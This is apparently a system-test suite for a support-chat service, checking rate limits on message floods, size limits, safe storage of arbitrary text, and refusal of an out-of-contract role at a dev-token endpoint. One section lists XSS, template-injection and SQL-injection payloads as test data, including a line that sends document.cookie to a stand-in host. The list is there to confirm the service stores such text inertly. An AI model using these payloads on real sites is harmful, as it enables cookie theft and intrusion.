import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ChatMessage, ChatRoom, RoomUpdatedPush } from "@support-chat/contracts";
import type { Person } from "@support-chat/system-tests/src/clients.js";
import { api, connectAs, emitRaw, ErrorAck, http, openSocket, restErrorOf } from "../src/calls.js";
import { startWorld, type World } from "../src/world.js";

let w: World;
let gateways: [string, string];
beforeAll(async () => {
  w = await startWorld({ gateways: 2 });
  gateways = w.stack.gatewayUrls as [string, string];
});
afterAll(async () => {
  await w?.stop();
});

/** A customer with a room, and the agent who took it. */
const conversation = async (customerName?: string) => {
  const customer = w.person("customer", customerName);
  const agent = w.person("agent");
  const room = ChatRoom.parse((await api(w.url, customer, "GET", "/chat/room")).body);
  await api(w.url, agent, "POST", `/chat/support/room/${room.id}/assign`);
  return { customer, agent, roomId: room.id };
};

const storedBy = async (roomId: string, who: Person) =>
  ChatMessage.array()
    .parse((await api(w.url, who, "GET", `/chat/room/${roomId}/messages?limit=200`)).body)
    .filter((m) => m.senderId === who.id);

const codeOf = (reply: unknown) => {
  const parsed = ErrorAck.safeParse(reply);
  return parsed.success ? parsed.data.error.code : "OK";
};

describe("floods hit the rate limit", () => {
  it("a socket flood: what is accepted is exactly what is stored, the rest is RATE_LIMITED", async () => {
    const { customer, roomId } = await conversation();
    const socket = await connectAs(w.url, customer);
    try {
      const replies = await Promise.all(
        Array.from({ length: 60 }, (_, i) =>
          emitRaw(socket, "sendMessage", {
            roomId,
            message: `flood ${i}`,
            clientMessageId: `f${i}`,
          }),
        ),
      );
      const codes = replies.map(codeOf);
      const accepted = replies.filter((r) => codeOf(r) === "OK") as Array<{ data: ChatMessage }>;
      expect(new Set(codes)).toEqual(new Set(["OK", "RATE_LIMITED"]));
      expect(accepted.length).toBeGreaterThan(0);
      expect(accepted.length).toBeLessThan(30);
      const limited = replies.map((r) => ErrorAck.safeParse(r)).find((r) => r.success);
      expect(limited?.data.error.message).toMatch(/retry after/);
      const stored = await storedBy(roomId, customer);
      expect(stored.map((m) => m.id).sort()).toEqual(accepted.map((r) => r.data.id).sort());
    } finally {
      socket.close();
    }
  });

  it("a REST flood: accepted count equals stored count, the rest get 429 RATE_LIMITED", async () => {
    const { customer, roomId } = await conversation();
    const replies = await Promise.all(
      Array.from({ length: 40 }, (_, i) =>
        api(w.url, customer, "POST", `/chat/room/${roomId}/messages`, {
          message: `rest flood ${i}`,
          clientMessageId: `r${i}`,
        }),
      ),
    );
    const accepted = replies.filter((r) => r.status === 201);
    const refused = replies.filter((r) => r.status !== 201);
    expect(refused.length).toBeGreaterThan(0);
    for (const r of refused) expect(restErrorOf(r).code).toBe("RATE_LIMITED");
    expect((await storedBy(roomId, customer)).length).toBe(accepted.length);
  });

  it("one user's limit holds across sockets on both gateways, and does not touch anyone else", async () => {
    const { customer, roomId } = await conversation();
    const bystander = await conversation();
    const sockets = await Promise.all(gateways.map((g) => connectAs(g, customer)));
    const other = await connectAs(w.url, bystander.customer);
    try {
      const flood = sockets.flatMap((socket, s) =>
        Array.from({ length: 30 }, (_, i) =>
          emitRaw(socket, "sendMessage", {
            roomId,
            message: `two-front ${s}.${i}`,
            clientMessageId: `g${s}-${i}`,
          }),
        ),
      );
      const unaffected = emitRaw(other, "sendMessage", {
        roomId: bystander.roomId,
        message: "I am just here shopping",
        clientMessageId: "innocent",
      });
      const replies = await Promise.all(flood);
      const accepted = replies.filter((r) => codeOf(r) === "OK").length;
      // One shared budget (10/s plus a burst of 5), not one per gateway.
      expect(accepted).toBeLessThan(30);
      expect((await storedBy(roomId, customer)).length).toBe(accepted);
      expect(await unaffected).toMatchObject({ status: "OK" });
    } finally {
      for (const s of [...sockets, other]) s.close();
    }
  });

  it("a typing flood is limited too and stores nothing", async () => {
    const { customer, roomId } = await conversation();
    const socket = await connectAs(w.url, customer);
    try {
      await emitRaw(socket, "joinRoom", { roomId });
      const before = await w.snapshot();
      const replies = await Promise.all(
        Array.from({ length: 40 }, (_, i) =>
          emitRaw(socket, "typing", { roomId, isTyping: i % 2 === 0 }),
        ),
      );
      expect(replies.map(codeOf)).toContain("RATE_LIMITED");
      expect(await w.changesSince(before)).toEqual([]);
    } finally {
      socket.close();
    }
  });
});

describe("size limits", () => {
  it("the socket server drops a frame over its limit, stores nothing and keeps serving", async () => {
    const { customer, roomId } = await conversation();
    const socket = await connectAs(w.url, customer);
    const before = await w.snapshot();
    const dropped = new Promise<string>((resolve) =>
      socket.once("disconnect", (reason) => resolve(reason)),
    );
    const reply = emitRaw(socket, "sendMessage", {
      roomId,
      message: "A".repeat(70_000),
      clientMessageId: "huge",
    }).catch((e: unknown) => `no ack: ${String(e)}`);
    expect(await dropped).toMatch(/transport (close|error)/);
    expect(await reply).toMatch(/no ack/);
    expect(await w.changesSince(before)).toEqual([]);
    expect((await http(w.url, "GET", "/healthz")).status).toBe(200);
    const again = await connectAs(w.url, customer);
    expect(
      await emitRaw(again, "sendMessage", {
        roomId,
        message: "sorry, normal size",
        clientMessageId: "ok",
      }),
    ).toMatchObject({ status: "OK" });
    again.close();
  });

  it("a handshake with a huge token is refused without harm", async () => {
    const { socket, refusal } = await openSocket(w.url, { token: "x".repeat(200_000) });
    socket.close();
    expect(refusal).not.toBeNull();
    expect((await http(w.url, "GET", "/healthz")).status).toBe(200);
  });

  it("refuses messages over the length limits with their own codes", async () => {
    const { customer, roomId } = await conversation();
    const socket = await connectAs(w.url, customer);
    try {
      const before = await w.snapshot();
      const send = (message: string, clientMessageId: string) =>
        emitRaw(socket, "sendMessage", { roomId, message, clientMessageId });
      expect(codeOf(await send("B".repeat(2001), "long"))).toBe("MESSAGE_TOO_LONG");
      expect(codeOf(await send("C".repeat(30_000), "over-cap"))).toBe("VALIDATION_FAILED");
      expect(codeOf(await send(" \n\t ", "blank"))).toBe("MESSAGE_EMPTY");
      const rest = await api(w.url, customer, "POST", `/chat/room/${roomId}/messages`, {
        message: "D".repeat(100_000),
        clientMessageId: "big-body",
      });
      expect(restErrorOf(rest).code).toBe("PAYLOAD_TOO_LARGE");
      expect(await w.changesSince(before)).toEqual([]);
    } finally {
      socket.close();
    }
  });
});

describe("stored text comes back as the very same text", () => {
  const attacks = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">',
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "<a href=\"javascript:alert('x')\">track my order</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "</textarea><script>alert(1)</script>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "order \u202egnp.exe\u202c #42 👍🏽 — ça marche",
    "'; DROP TABLE events; --",
  ];

  it("every XSS payload is stored and delivered byte for byte, as text", async () => {
    const { customer, agent, roomId } = await conversation('<img src=x onerror="alert(1)">');
    const customerSocket = await connectAs(w.url, customer);
    const agentSocket = await connectAs(w.url, agent);
    try {
      await emitRaw(agentSocket, "joinRoom", { roomId });
      const pushed = new Map<string, string>();
      const snapshots: string[] = [];
      agentSocket.on("newMessage", (m) => pushed.set(m.clientMessageId, m.message));
      agentSocket.on("roomUpdated", (p) => {
        const room = RoomUpdatedPush.parse(p).room;
        if (room.id === roomId && room.lastMessage !== null) snapshots.push(room.lastMessage);
      });
      for (const [i, text] of attacks.entries()) {
        const reply = await emitRaw(customerSocket, "sendMessage", {
          roomId,
          message: text,
          clientMessageId: `x${i}`,
        });
        expect(reply).toMatchObject({ status: "OK", data: { message: text } });
      }
      const history = await api(w.url, agent, "GET", `/chat/room/${roomId}/messages?limit=200`);
      expect(history.headers.get("content-type")).toMatch(/^application\/json/);
      const stored = ChatMessage.array().parse(history.body);
      expect(stored.map((m) => m.message)).toEqual(attacks);
      expect(stored.every((m) => m.senderName === '<img src=x onerror="alert(1)">')).toBe(true);
      await expect.poll(() => pushed.size).toBe(attacks.length);
      expect(attacks.map((_, i) => pushed.get(`x${i}`))).toEqual(attacks);
      await expect.poll(() => snapshots.at(-1)).toBe(attacks.at(-1));
      const room = ChatRoom.parse((await api(w.url, customer, "GET", `/chat/room/${roomId}`)).body);
      expect(room.lastMessage).toBe(attacks.at(-1));
    } finally {
      customerSocket.close();
      agentSocket.close();
    }
  });

  it("any text is either stored exactly or refused with a clear 4xx, never an internal error", async () => {
    const texts = fc.sample(
      fc.oneof(
        fc.string({ unit: "binary", minLength: 1, maxLength: 40 }),
        fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }),
        fc.constantFrom(
          "nul \u0000 inside",
          "lone \ud800 surrogate",
          "\udc00",
          "bell \u0007",
          "del \u007f",
        ),
      ),
      { numRuns: 60, seed: 7 },
    );
    const problems = new Set<string>();
    // Ten texts per customer keeps every sender within the message rate limit.
    for (let batch = 0; batch < texts.length; batch += 10) {
      const { customer, roomId } = await conversation();
      for (const [i, text] of texts.slice(batch, batch + 10).entries()) {
        const before = await w.snapshot();
        const reply = await api(w.url, customer, "POST", `/chat/room/${roomId}/messages`, {
          message: text,
          clientMessageId: `t${i}`,
        });
        if (reply.status === 201) {
          const stored = ChatMessage.parse(reply.body);
          if (stored.message !== text.trim()) {
            problems.add(`${JSON.stringify(text)} came back as ${JSON.stringify(stored.message)}`);
          }
        } else if (reply.status >= 500 || reply.status < 400) {
          problems.add(`${JSON.stringify(text)} → ${reply.status} ${reply.text}`);
          for (const change of await w.changesSince(before)) {
            problems.add(`${JSON.stringify(text)} was refused but: ${change}`);
          }
        } else {
          restErrorOf(reply);
        }
      }
    }
    expect([...problems], [...problems].join("\n")).toEqual([]);
  });
});

it("the dev-token endpoint (enabled in this test stack) never mints a token for a role outside the contract", async () => {
  const reply = await api(w.url, null, "POST", "/auth/dev-token", { name: "Root", role: "system" });
  expect(restErrorOf(reply).code).toBe("VALIDATION_FAILED");
});
